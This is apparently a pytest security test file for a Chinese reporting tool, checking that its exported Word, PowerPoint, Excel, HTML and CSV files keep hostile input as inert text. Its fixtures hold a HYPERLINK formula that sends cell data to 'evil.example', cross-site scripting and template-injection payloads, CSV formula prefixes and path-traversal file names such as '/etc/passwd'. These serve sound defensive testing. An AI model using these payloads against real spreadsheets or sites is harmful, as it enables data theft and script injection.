"""What documents and people say is text to every reader of what we write: no markup, no script, no formula, no link, no path.

Each file is opened as its reader would open it: Word, PowerPoint and Excel packages part by part, pages by an HTML parser.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tomllib
import zipfile
from collections.abc import Callable
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import msgspec
import openpyxl
import pytest
from docx import Document
from lxml import etree, html  # type: ignore[attr-defined]
from pptx import Presentation

from ogi.brief.archive import archive_of
from ogi.brief.brief_book import write_book
from ogi.brief.build import brief_of
from ogi.brief.content import Brief, Tables
from ogi.brief.paper import full_html, one_page_html
from ogi.brief.return_list import ReturnedReport, ReturnList
from ogi.brief.return_list_book import write_return_book, write_return_books
from ogi.brief.return_list_document import write_fix_list, write_return_list
from ogi.brief.slides import write_slides
from ogi.brief.word import write_full, write_one_page
from ogi.brief.years_document import YearsDocument, write_years
from ogi.checks import check_report
from ogi.checks.fix_lines import fix_lines
from ogi.checks.fix_list import fix_list
from ogi.comparison import blocks_of, compare_years, keys_of
from ogi.exchange.report_book import report_book
from ogi.export import to_csv, to_xlsx
from ogi.facts import build_facts
from ogi.form import load_form
from ogi.labels import Labels
from ogi.library import Library, entry_from
from ogi.report import NarrativeSection, Report
from ogi.selection import select
from ogi.shares.figures_table import figures_csv
from ogi.shares.grant import shared_view
from ogi.shares.making import content_of
from ogi.shares.page import Shown, file_of, page_of
from ogi.view import View

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>]]><a href='javascript:alert(2)'>{{7*7}}${7*7}&#x3c;"
HOSTILE = f"{FORMULA}{MARKUP}"
CONTROL = "\x00\x07\x0b\x1f\ufffe"
"""Characters that XML does not allow."""
ACTING = {"script", "img", "a", "hyperlink", "hlinkClick", "instrText", "fldSimple", "altChunk", "oleObject"}
"""Elements of pages and of office files that do or open something."""
ZH = Labels("zh")
AT = dt.datetime(2026, 3, 4, tzinfo=dt.UTC)


@pytest.fixture(scope="module")
def reports(suqian: Callable[..., Report]) -> list[Report]:
    """Two years with everything hostile that a document can say; 2024 prints one request too many."""
    return [
        msgspec.structs.replace(
            report,
            document=msgspec.structs.replace(report.document, name=f"{HOSTILE}{CONTROL}.pdf"),
            organ=msgspec.structs.replace(report.organ, name=f"{HOSTILE}{CONTROL}局"),
            narrative=(NarrativeSection(section="s1", title=HOSTILE, text=f"{HOSTILE}{CONTROL}\n+1\n@x\n-2"),),
            meta={"meta.title": f"{HOSTILE}{CONTROL}"},
        )
        for report in (suqian(2023), suqian(2024, {"applications.received.total": "3526"}))
    ]


@pytest.fixture(scope="module")
def library(reports: list[Report]) -> Library:
    return Library.of([entry_from(report, check_report(report, load_form()), "published") for report in reports])


@pytest.fixture(scope="module")
def years(library: Library) -> tuple[YearsDocument, Tables]:
    selection = select(library, View(collection="published"))
    blocks = blocks_of(("gf2021",), "zh")
    cells = compare_years(selection.long(keys_of(blocks)), (2023, 2024), (2023, 2024))
    said = [f"{HOSTILE}{CONTROL}"]
    document = YearsDocument(
        title=said[0], sentence=said[0], changed=said, blocks=blocks, cells=cells, years=(2023, 2024), findings=said,
        prose=said, sources=said,
    )  # fmt: skip
    return document, Tables(blocks=blocks, cells=cells, years=(2023, 2024))


@pytest.fixture(scope="module")
def brief(library: Library, years: tuple[YearsDocument, Tables]) -> Brief:
    entries = list(library)
    found = brief_of(
        select(build_facts(entries, "published"), View(lang="zh")), ZH, who=f"{HOSTILE}{CONTROL}", sentence=f"{HOSTILE}{CONTROL}",
        made_on="2026-01-02", organ=entries[0].organ_id or "", tables=years[1],
    )  # fmt: skip
    assert found is not None
    return found


@pytest.fixture(scope="module")
def returned(library: Library) -> ReturnList:
    entry = max(library, key=lambda entry: entry.report_year or 0)
    lines = fix_lines(fix_list(entry.findings, ()), entry.report, ZH, load_form())
    assert lines
    said = f"{HOSTILE}{CONTROL}"
    lines = tuple(line._replace(printed=said, wrong=(said,), do=(said,), where=said, table=said) for line in lines)
    return ReturnList(organ=said, reports=[ReturnedReport(year=2024, lines=lines)], deadline=said, contact=said)


def _packages(brief: Brief, years: YearsDocument, returned: ReturnList, reports: list[Report]) -> dict[str, bytes]:
    lists = [("组", returned.reports[0].lines)]
    return {
        "page.docx": write_one_page(brief, ZH),
        "full.docx": write_full(brief, ZH),
        "years.docx": write_years(years, ZH),
        "return.docx": write_return_list(returned, ZH),
        "fix.docx": write_fix_list(returned.organ, returned.organ, lists, [returned.organ], ZH),
        "slides.pptx": write_slides(brief, ZH),
        "book.xlsx": write_book(brief, ZH),
        "return.xlsx": write_return_book(returned, ZH),
        "returns.xlsx": write_return_books([returned, returned], ZH),
        "report.xlsx": report_book(reports[1], {"applications.received.total": 3525}),
        "values.xlsx": to_xlsx(reports),
    }


@pytest.fixture(scope="module")
def packages(brief: Brief, years, returned: ReturnList, reports: list[Report]) -> dict[str, bytes]:
    return _packages(brief, years[0], returned, reports)


def _texts(name: str, data: bytes) -> str:
    """All text of a file as its library reads it."""
    if name.endswith("docx"):
        root = Document(BytesIO(data)).element
        return "\n".join("".join(p.itertext()) for p in root.iter("{*}p"))
    if name.endswith("pptx"):
        slides = Presentation(BytesIO(data)).slides
        return "\n".join(t for slide in slides for t in slide._element.itertext())
    book = openpyxl.load_workbook(BytesIO(data))
    return "\n".join(str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None)


def _is_inside(element: Any) -> bool:
    return (
        element.tag.endswith("}hyperlink") and element.get("location") is not None and not element.xpath("@*[local-name()='id']")
    )


def test_office_files_hold_hostile_text_as_text_and_nothing_that_acts(packages: dict[str, bytes]) -> None:
    for name, data in packages.items():
        assert MARKUP in _texts(name, data), name
        with zipfile.ZipFile(BytesIO(data)) as package:
            parts = {
                part: etree.fromstring(package.read(part)) for part in package.namelist() if part.endswith((".xml", ".rels"))
            }
        for part, root in parts.items():
            # A link to a sheet of the same workbook leads nowhere else.
            tags = {etree.QName(element).localname for element in root.iter("*") if not _is_inside(element)}
            assert not tags & {"script", "img", "a", "hyperlink", "hlinkClick", "instrText", "fldSimple", "altChunk"}, (
                name,
                part,
            )
            targets = [r.get("Target", "") for r in root.iter("{*}Relationship") if r.get("TargetMode") == "External"]
            assert targets == [], (name, part)


def test_workbooks_have_no_formula_and_no_text_that_begins_like_one(packages: dict[str, bytes]) -> None:
    for name, data in packages.items():
        if not name.endswith("xlsx"):
            continue
        book = openpyxl.load_workbook(BytesIO(data))
        for sheet in book:
            assert len(sheet.title) <= 31
            assert not set(sheet.title) & set("[]:*?/\\")
            for cell in (cell for row in sheet.iter_rows() for cell in row):
                assert cell.data_type != "f" or "HYPERLINK" not in str(cell.value), (name, cell.coordinate)
                text = cell.value
                if isinstance(text, str) and "evil" in text:
                    assert not text.startswith(("=", "+", "-", "@", "\t")), (name, cell.coordinate)


def _acts(root: Any) -> list[str]:
    """What in a page of ours would do something hostile."""
    found = []
    for element in root.iter("*"):
        found += [f"{element.tag} {n}" for n in element.keys() if n.startswith("on")]  # noqa: SIM118 - of lxml
        links = (element.get("href", ""), element.get("src", ""), element.get("action", ""))
        found += [link for link in links if "evil" in link or "javascript:" in link]
        if element.tag == "script" and (element.text or "").startswith("alert"):
            found.append("script")
    return found


def test_pages_files_and_paper_hold_hostile_text_as_text(library: Library, brief: Brief) -> None:
    view = shared_view(View(collection="published", page="agencies"), library)
    shown = Shown(content=content_of(view, library), at=AT, title=HOSTILE, note=HOSTILE, changes=(HOSTILE,), sha256="ab" * 32)
    pages = {
        "page": page_of(shown, base="x"),
        "file": file_of(shown).decode(),
        "one page": one_page_html(brief, ZH),
        "full": full_html(brief, ZH),
    }
    for name, text in pages.items():
        root = html.document_fromstring(text.replace("\x00", ""))
        assert MARKUP in "".join(root.itertext()), name
        assert _acts(root) == [], name
        assert not root.xpath("//img[@src='x']"), name
    assert not html.document_fromstring(pages["page"]).xpath("//script")
    assert len(html.document_fromstring(pages["file"]).xpath("//script")) == 2, "plotly and ours"


def test_tables_as_text_begin_no_cell_like_a_formula_and_keep_their_columns(library: Library, reports: list[Report]) -> None:
    view = shared_view(View(collection="published"), library)
    for data, has_names in ((to_csv(reports), True), (figures_csv(content_of(view, library)), False)):
        lines = list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))
        assert len({len(line) for line in lines if len(line) > 1}) == 1
        assert not [cell for line in lines for cell in line if cell.startswith(("=", "@", "\t")) or cell[:2] in ("+1", "-=")]
        assert any("evil.example" in cell for line in lines for cell in line) is has_names


@pytest.mark.parametrize("name", ["../../etc/x.docx", "..\\..\\x.docx", "C:\\x", "/etc/passwd", "a\x00b", "..", "", "con:"])
def test_archive_has_no_name_that_leads_out_of_its_folder(name: str) -> None:
    (found,) = zipfile.ZipFile(io.BytesIO(archive_of([(name, b"x")]))).namelist()
    assert found.strip(".")
    assert not set(found) & set('/\\:\x00*?"<>|')


def test_tables_on_screen_offer_no_file_of_their_own() -> None:
    """That of the library leaves ``=SUM(1,1)`` as it is; the files of ours are neutral."""
    with (Path(__file__).resolve().parents[2] / ".streamlit" / "config.toml").open("rb") as file:
        assert tomllib.load(file)["client"]["disableDataExport"] is True
